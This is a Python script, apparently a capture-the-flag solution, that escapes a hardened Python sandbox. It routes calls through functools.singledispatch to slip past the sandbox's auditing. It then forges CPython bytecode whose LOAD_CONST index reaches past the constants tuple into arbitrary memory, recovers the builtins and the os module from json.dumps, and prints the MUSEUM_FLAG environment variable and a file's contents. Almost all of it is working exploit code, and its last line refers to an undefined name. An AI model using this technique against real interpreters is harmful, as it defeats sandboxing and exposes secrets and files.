# Bytecode that loads a constant from beyond the end of the tuple of constants: from anywhere in
# memory. CPython trusts its own compiler, and checks no index when the code runs.
import functools
import json
import operator


def ask(operation, thing):
    # singledispatch calls the operation from a Python function of the library's own. `hardened` and
    # `audited` ask whose function it is that wants code: it is the library's.
    return functools.singledispatch(operation)(thing)


def template():
    pass


code = ask(operator.attrgetter("__code__"), template)

# The numbers of three instructions, by the first one of any function: it is RESUME.
RESUME = ask(operator.attrgetter("co_code"), code)[0]
EXTENDED_ARG, LOAD_CONST, RETURN_VALUE = (71, 83, 36) if RESUME == 149 else (144, 100, 83)


def conjure(address):
    """What the pointer at an address points to, as an object."""
    # A new tuple of constants, whose place in memory id() tells. Its items begin 24 bytes on.
    constants = tuple([address])
    index = (address - (id(constants) + 24)) // 8
    # Four bytes of index, the highest first. The interpreter takes them for a signed number.
    first, second, third, last = (index & 0xFFFFFFFF).to_bytes(4, "big")
    instructions = bytes([
        RESUME, 0,
        EXTENDED_ARG, first, EXTENDED_ARG, second, EXTENDED_ARG, third, LOAD_CONST, last,
        RETURN_VALUE, 0,
    ])
    made = ask(operator.methodcaller("replace", co_code=instructions, co_consts=constants), code)
    ask(operator.methodcaller("__setattr__", "__code__", made), template)
    return template()


# A function's first field is the dict of its module's globals, 16 bytes from its start. The
# attribute __globals__ may be hidden; the pointer is where it always was.
library = conjure(id(json.dumps) + 16)
builtins = library["__builtins__"]
os = builtins["__import__"]("sys").modules["os"]

print(os.environ["MUSEUM_FLAG"], flush=True)
print(builtins["open"](outside["file"]).read())
